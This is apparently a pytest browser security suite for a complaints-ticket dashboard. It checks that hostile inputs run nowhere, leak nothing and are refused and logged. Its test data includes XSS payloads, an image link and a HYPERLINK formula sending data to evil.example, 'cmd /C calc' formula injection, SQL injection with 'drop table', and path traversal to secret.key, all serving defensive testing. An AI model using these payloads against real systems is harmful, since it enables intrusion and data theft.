"""A hostile corpus through every entry, in a real browser: nothing runs or leaks, each leaves a row of the trail."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import socket
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote, urlsplit

import pytest
import sqlalchemy as sa

from pages._shared.access import who
from pages._shared.text import t
from tests.browser.served import Visit, chrome, serve
from tests.conftest import command
from tests.people import signed_in
from warehouse import accounts, audit, ops

pytestmark = [pytest.mark.browser, pytest.mark.deep, pytest.mark.xdist_group("browser")]
RUN = "window.__ran=1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f'"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"[投诉](javascript:{RUN})",
    "![x](http://evil.example/leak.png)",
    "$\\href{javascript:" + RUN + "}{x}$",
    ":material/lock: :red[x] <b onmouseover=" + RUN + ">x</b>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
    "-1+1", "\t=1+1", "＝1+1",
)  # fmt: skip
QUERIES = (
    "' or 1=1 --", "321003'; drop table fact_ticket; --", "\" union select cust_key from fact_ticket --",
    "321003) or (1=1", "%27%20or%201=1", "${7*7}{{7*7}}", "\x00\x1b[31m", "../../secret.key", "x" * 3000,
)  # fmt: skip
NAMES = ("region", "type", "period", "id", "view", "part")
CORPUS = (*SCRIPTS, *FORMULAS, *QUERIES[:4])
HEAD, FIRST_ID = 4, 950_001
PHONE = "138" + "001370"  # and two more digits
# Where free text of a complaint goes in: columns of the export, by their place.
TEXTS = {"投诉内容", "投诉街镇", "投诉地点", "终端型号", "套餐", "原因三级", "投诉现象三级", "未解决原因", "超时原因"}

OPEN = {"首次响应时间", "处理完成时间", "反馈时间", "归档时间", "是否解决"}  # without these a ticket is open


class Served(NamedTuple):
    base: str
    store: sa.Engine
    browser: Any
    home: Path
    log: Path


@pytest.fixture(scope="module")
def hostile(demo_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A city of 200 tickets, some of which hold the corpus in every text; loaded and built as any other."""
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "home"
    command(home, "etl", "init", "demo")
    lines = (demo_home / "inbox" / "投诉工单_202503.csv").read_bytes().decode("gb18030").splitlines()
    header, plain = lines[HEAD - 1], [line for line in lines[HEAD:] if ",2025-03-2" in line][-200:]
    good = next(line for line in reversed(plain) if '"投诉","普通"' in line)
    (home / "inbox").mkdir(exist_ok=True)
    for n, name in enumerate(("投诉工单_202503.csv", "投诉工单_202503_<img src=x onerror=window.__ran=1>&'; drop.csv")):
        out = io.StringIO()
        if n == 0:
            print(*lines[:HEAD], *plain, sep="\r\n", end="\r\n", file=out)
        else:
            print(*lines[:HEAD], sep="\r\n", end="\r\n", file=out)
            columns = header.split(",")
            for k, told in enumerate(CORPUS):
                row = next(csv.reader([good]))
                row = [told if c in TEXTS else v for c, v in zip(columns, row, strict=True)]
                row[0], row[2] = f"YZ20250328{FIRST_ID + k}", PHONE
                row[3] = f"2025-03-28 0{k % 9}:10:00"
                csv.writer(out).writerow(row)
        (home / "inbox" / name).write_text(out.getvalue(), encoding="utf-8")
    # One that cannot be read: only a card of what went wrong names a file.
    (home / "inbox" / "投诉工单_202504_<img src=x onerror=window.__ran=1>.csv").write_bytes(b"")
    command(home, "etl", "load", allowed=(0, 1, 3))
    command(home, "warehouse", "build")
    url = f"sqlite:///{folder / 'ops.db'}"
    store = ops.open_ops(url)
    with serve(home, folder / "log", LOOKOUT_OPS_URL=url, LOOKOUT_SIGN_IN="local") as base, chrome() as browser:
        yield Served(base, store, browser, home, folder / "log")


def now() -> datetime:
    return datetime.now(UTC).replace(tzinfo=None)


class Person:
    """Somebody signed in with a window of his own, who notes whatever the server sends: pages, files, frames."""

    def __init__(self, served: Served, name: str, role: Any, regions: list[str] | None = None) -> None:
        self.served, self.name = served, name
        self.token = signed_in(served.store, name, role, now(), regions)
        self.visit = Visit(served.browser, served.base)
        self.visit.context.add_cookies([{"name": who.COOKIE, "value": self.token, "url": served.base}])
        self.frames: list[bytes] = []
        self.dialogs: list[str] = []
        page = self.visit.page
        page.on("websocket", lambda s: s.on("framereceived", lambda f: self.frames.append(_bytes(f))))
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))

    def open(self, link: str) -> str:
        """The words of a page, after it was found that nothing ran and nothing left the machine."""
        self.visit.open(link)
        return self.harmless()

    def harmless(self) -> str:
        for frame in self.visit.page.frames:
            assert frame.evaluate("window.__ran === undefined"), f"something ran at {self.visit.page.url}"
        assert self.dialogs == [] and self.visit.faults == []
        assert self.visit.page.locator('[data-testid="stException"]').count() == 0
        return str(self.visit.page.inner_text("body"))

    def rows(self, kind: str = "") -> list[dict[str, Any]]:
        return audit.search(self.served.store, kinds=[kind] if kind else [], actor=self.name, size=500)[0]

    def close(self) -> None:
        """Nothing that was sent holds what nobody may see."""
        self.visit.close()
        secret = (self.served.home / "secret.key").read_bytes()
        for told in self.frames:
            assert PHONE.encode() not in told and secret not in told and secret.hex().encode() not in told
            assert b"Traceback" not in told and str(self.served.home).encode() not in told


def _bytes(frame: Any) -> bytes:
    payload = getattr(frame, "payload", frame)
    return payload if isinstance(payload, bytes) else str(payload).encode()


def ask(
    served: Served, path: str, token: str = "", method: str = "GET", body: bytes | None = None, **headers: str
) -> int:
    """The status of a request made by hand, as a browser would never send it."""
    told = {k.replace("_", "-"): v for k, v in headers.items()}
    if token:
        told["Cookie"] = f"{who.COOKIE}={token}" + (f"; {told.pop('Cookie')}" if "Cookie" in told else "")
    request = urllib.request.Request(served.base + path, body, told, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            assert b"secret" not in answer.read().lower() or path.endswith(".js")
            return int(answer.status)
    except urllib.error.HTTPError as error:
        assert b"Traceback" not in error.read()
        return error.code


def refusals(served: Served, actor: str = "") -> list[str]:
    return [r["subject"] for r in audit.search(served.store, kinds=["refused"], actor=actor, size=500)[0]]


def test_code_in_the_texts_of_complaints_runs_on_no_page(hostile: Served) -> None:
    one = Person(hostile, "ana", "analyst")
    for link in (
        "/tickets?lang=en", "/complaints?lang=en", "/complaints?lang=zh&part=subtypes", "/complaints?lang=en&part=who",
        "/complaints?lang=en&view=repeats", "/flow?lang=en", "/data?lang=en", "/",
    ):  # fmt: skip
        one.open(link)
    shown = [one.open(f"/ticket?id=YZ20250328{FIRST_ID + k}&lang=en") for k in range(len(CORPUS))]
    assert sum(RUN in told for told in shown) >= 3, "it is shown, as the letters that it is"
    seen = [r for r in one.rows("rows") if "ticket" in r["subject"]]
    assert len(seen) >= len(CORPUS)
    with hostile.store.connect() as con:
        keys = {r[0] for r in con.execute(sa.select(ops.audit_seen.c.cust_key))}
    assert keys and not any(PHONE in key for key in keys)
    one.close()


def test_the_name_of_a_file_runs_nowhere(hostile: Served) -> None:
    one = Person(hostile, "eng", "engineer")
    told = one.open("/data?lang=en")
    assert "onerror" in told, "the register shows the name"
    one.close()


def test_code_and_sql_in_a_link_select_nothing_more(hostile: Served) -> None:
    one = Person(hostile, "li", "planner", ["321003"])
    before = one.open("/tickets?lang=en")
    links = ["&".join(f"{n}={quote(told, safe='')}" for n in NAMES) for told in (*QUERIES, *SCRIPTS[:3])]
    links += [f"{n}={quote(told, safe='')}" for n in (*NAMES, "role", "lang") for told in QUERIES[:1]]
    for link in links:
        said = one.open(f"/tickets?{link}" + ("" if "lang=" in link else "&lang=en"))
        assert _count(said) in (None, _count(before)) or "lang=" in link, link
    held = [json.loads(r["detail_json"]) for r in one.rows()]
    for name in NAMES:
        assert sum(name in asked for asked in held) >= 5, "what was asked stands in the trail"
    assert "a role by link" in refusals(hostile, "li")
    one.close()


def _count(said: str) -> str | None:
    found = re.search(r"([\d,]+) (?:tickets|complaints)", said)
    return found.group(1) if found else None


@pytest.mark.parametrize(
    ("role", "link"),
    [
        ("manager", "/tickets"), ("manager", f"/ticket?id=YZ20250328{FIRST_ID}"), ("auditor", "/tickets"),
        ("engineer", "/complaints"), ("wall", "/data?view=access"), ("wall", "/review"),
    ],
)  # fmt: skip
def test_the_link_of_a_page_that_is_hidden_from_a_role(hostile: Served, role: str, link: str) -> None:
    one = Person(hostile, f"{role}-{urlsplit(link).path[1:]}", role)
    said = one.open(link + ("&" if "?" in link else "?") + "lang=en")
    assert "YZ2025" not in said and not any(b"YZ2025" in f for f in one.frames)
    assert ("refused", "a page by link") in [(r["kind"], r["subject"]) for r in one.rows()]
    one.close()


def test_uploads_that_are_too_large_or_would_lead_elsewhere(hostile: Served) -> None:
    one = Person(hostile, "upe", "engineer")
    one.open("/data?view=intake&lang=en")
    sent: list[Any] = []
    one.visit.page.on("request", lambda r: sent.append(r) if "/upload_file/" in r.url and r.method == "PUT" else None)
    text = "a,b\n" + "\n".join(f"{told},{told}" for told in ("1", *(t.replace(",", " ") for t in CORPUS)))
    one.visit.page.set_input_files(
        'input[type="file"]',
        {"name": "<img src=x onerror=window.__ran=1>.csv", "mimeType": "text/csv", "buffer": text.encode()},
    )
    one.visit.page.wait_for_timeout(1500)
    one.visit.settle()
    one.harmless()
    [put] = sent
    path, headers = urlsplit(put.url).path, put.all_headers()
    xsrf = {"X-Xsrftoken": headers["x-xsrftoken"], "Cookie": f"_streamlit_xsrf={headers['x-xsrftoken']}"}

    def upload(size: int, name: str, at: str = path, **more: str) -> int:
        begin = f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n'.encode()
        body = begin + b"x" * size + b"\r\n--b--\r\n"
        return ask(
            hostile, at, one.token, "PUT", body, Content_Type="multipart/form-data; boundary=b", **{**xsrf, **more}
        )

    def announced(size: int) -> int:
        """The answer to what a client says it will send; nothing of it is waited for."""
        line = http.client.HTTPConnection(urlsplit(hostile.base).netloc, timeout=20)
        cookies = f"{who.COOKIE}={one.token}; {xsrf['Cookie']}"
        told = {"Cookie": cookies, "X-Xsrftoken": xsrf["X-Xsrftoken"], "Content-Length": str(size)}
        line.putrequest("PUT", path)
        for name, value in {**told, "Content-Type": "multipart/form-data; boundary=b"}.items():
            line.putheader(name, value)
        line.endheaders()
        status = line.getresponse().status
        line.close()
        return status

    before = sorted(p for p in hostile.home.rglob("*") if p.is_file())
    assert upload(10, "../../../../tmp/evil.csv") == 204, "a name is only a name"
    assert announced(26 << 20) == 413
    assert upload(10, "x.csv", at=path.rsplit("/", 1)[0] + "/..%2f..%2fsecret.key") == 400
    assert upload(10, "x.csv", at="/_stcore/upload_file/nobody/x") == 400
    assert upload(10, "x.csv", X_Xsrftoken="forged") == 403
    assert sorted(p for p in hostile.home.rglob("*") if p.is_file()) == before, "nothing was written anywhere"
    told = refusals(hostile, "upe")
    assert {
        "an upload above the limit", "a path that leads elsewhere", "a request that cannot be",
        "a request without its token",
    } <= set(told)  # fmt: skip
    [deed] = [r for r in one.rows("deed") if r["subject"] == "a file tried out"]
    assert "onerror" in deed["detail_json"]

    accounts.end_all(hostile.store, "upe", now())
    one.visit.page.wait_for_timeout(2500)
    assert upload(10, "again.csv") == 401, "the same request, replayed after the session"
    assert "a cookie that opens nothing" in refusals(hostile, "stranger")
    one.visit.faults.clear()  # the browser tells that its socket was closed
    one.close()


def test_a_file_above_the_limit_is_refused_and_noted(hostile: Served, tmp_path: Path) -> None:
    """In the browser, whose own limit is no limit of ours, and as a stream that does not say how long it is."""
    one = Person(hostile, "big", "engineer")
    one.open("/data?view=intake&lang=en")
    sent: list[Any] = []
    one.visit.page.on("request", lambda r: sent.append(r) if "/upload_file/" in r.url and r.method == "PUT" else None)
    too_large = tmp_path / "large.csv"
    too_large.write_bytes(b"1,2\n" * ((26 << 20) // 4))
    one.visit.page.set_input_files('input[type="file"]', too_large, timeout=120_000)
    for _ in range(60):
        one.visit.page.wait_for_timeout(500)
        if refusals(hostile, "big"):
            break
    assert refusals(hostile, "big") == ["an upload above the limit"]
    assert "a file tried out" not in [r["subject"] for r in one.rows("deed")], "it did not come in"
    headers = sent[0].all_headers()

    other = signed_in(hostile.store, "streamer", "engineer", now())
    line = http.client.HTTPConnection(urlsplit(hostile.base).netloc, timeout=20)
    begin = b'--b\r\nContent-Disposition: form-data; name="f"; filename="s.csv"\r\n\r\n'
    pieces = (begin, *(b"x" * (1 << 20) for _ in range(40)), b"\r\n--b--\r\n")
    xsrf = headers["x-xsrftoken"]
    told = {
        "Cookie": f"{who.COOKIE}={other}; _streamlit_xsrf={xsrf}", "X-Xsrftoken": xsrf,
        "Content-Type": "multipart/form-data; boundary=b", "Transfer-Encoding": "chunked",
    }  # fmt: skip
    try:
        line.request("PUT", urlsplit(sent[0].url).path, iter(pieces), told, encode_chunked=True)
        assert line.getresponse().status == 413
    except (BrokenPipeError, ConnectionResetError):
        pass  # the answer came before all was sent
    line.close()
    assert refusals(hostile, "streamer") == ["an upload above the limit"]
    one.visit.faults.clear()  # the browser tells that the file was not taken
    one.close()


def test_cookies_that_are_forged_and_tokens_that_are_over(hostile: Served) -> None:
    old = signed_in(hostile.store, "past", "analyst", now() - timedelta(hours=11))
    before = len(refusals(hostile, "stranger"))
    for value in ("f" * 43, "' or 1=1 --", "../../secret.key", old):
        visit = Visit(hostile.browser, hostile.base)
        visit.context.add_cookies([{"name": who.COOKIE, "value": quote(value, safe=""), "url": hostile.base}])
        visit.page.goto(hostile.base + "/tickets")
        assert urlsplit(visit.page.url).path == "/sign-in"
        assert "YZ2025" not in visit.page.content()
        visit.close()
        assert ask(hostile, "/tickets", quote(value, safe="")) == 401
    at = urlsplit(hostile.base)
    with socket.create_connection((at.hostname, at.port), timeout=10) as raw:
        raw.sendall(
            f"GET /_stcore/stream HTTP/1.1\r\nHost: {at.netloc}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        assert b" 403 " in raw.recv(200)
    told = refusals(hostile, "stranger")
    assert {"a cookie that opens nothing", "a socket without a session"} <= set(told) and len(told) > before


@pytest.mark.parametrize(
    "path",
    [
        "/app/static/..%2f..%2fsecret.key",
        "/media/..%5c..%5csecret.key",
        "/basemap/..%2f..%2fsecret.key",
        "/%2e%2e/ops.db",
    ],
)
def test_a_path_that_leads_elsewhere(hostile: Served, path: str) -> None:
    token = signed_in(hostile.store, f"path{len(path)}", "engineer", now())
    assert ask(hostile, path, token) == 400
    assert refusals(hostile, f"path{len(path)}") == ["a path that leads elsewhere"]


def test_a_file_is_asked_approved_harmless_and_its_address_nobody_else_s(hostile: Served) -> None:
    one, other = Person(hostile, "taker", "analyst"), Person(hostile, "boss", "supervisor")
    one.open("/flow?lang=en")
    one.visit.page.get_by_role("button", name=t("export.ask", "en")).first.click()
    one.visit.page.locator(".st-key-due_csv_reason input").fill("=1+1 for the review")
    one.visit.page.get_by_role("button", name=t("export.send", "en")).first.click()
    one.visit.settle()
    other.open("/data?view=access&lang=en")
    other.visit.page.locator('[class*="st-key-approve_"] button').first.click()
    other.visit.settle()
    one.open("/flow?lang=en")
    page = one.visit.page
    with page.expect_response(lambda r: "/media/" in r.url) as fetched, page.expect_download() as waiting:
        page.locator('[data-testid="stDownloadButton"] button').first.click()
    path = urlsplit(fetched.value.url).path
    content = Path(waiting.value.path()).read_text(encoding="utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(content, newline="")) for cell in line]
    assert any(c.startswith("YZ2025") for c in cells), "rows of tickets"
    assert [c for c in cells if c and c[0] in "=@+\t\r"] == [] and PHONE not in content
    assert [r["kind"] for r in one.rows("export_taken")] == ["export_taken"]

    assert ask(hostile, path, one.token) == 200
    assert ask(hostile, path) == 401
    assert ask(hostile, path, other.token) == 404, "an address passed on"
    assert "a file of somebody else" in refusals(hostile, "boss")
    one.close()
    other.close()


def test_at_the_end_the_trail_is_whole_and_the_log_knows_no_secret(hostile: Served) -> None:
    assert audit.verify(hostile.store).fault is None
    auditor = Person(hostile, "aud", "auditor")
    auditor.open("/data?view=access&lang=en")
    auditor.close()
    said = hostile.log.read_text(encoding="utf-8")
    secret = (hostile.home / "secret.key").read_bytes()
    assert PHONE not in said and secret.hex() not in said and "token-" not in said
